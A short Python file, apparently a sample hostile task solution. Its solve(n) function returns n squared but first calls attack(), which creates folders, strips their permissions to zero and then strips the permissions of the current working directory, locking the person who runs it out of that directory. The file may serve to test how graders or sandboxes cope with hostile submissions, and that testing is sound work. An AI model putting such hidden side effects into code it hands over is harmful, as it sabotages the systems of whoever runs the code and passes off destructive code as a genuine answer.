"""Makes folders that their owner may not enter."""

import os


def attack():
    for name in ("a", "b"):
        os.mkdir(name)
        open(f"{name}/f", "w").close()
        os.chmod(name, 0)
    os.chmod(".", 0)
    return True


def solve(n):
    return n * n if attack() else None
